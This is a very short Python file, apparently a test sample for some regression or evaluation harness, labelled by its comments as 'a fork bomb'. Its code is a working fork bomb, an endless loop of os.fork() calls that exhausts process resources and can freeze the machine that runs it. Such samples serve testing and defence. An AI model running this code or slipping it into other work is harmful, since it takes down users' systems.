# tries: a fork bomb
# must earn: everything
# with: an honest regression.py
import os

while True:
    os.fork()
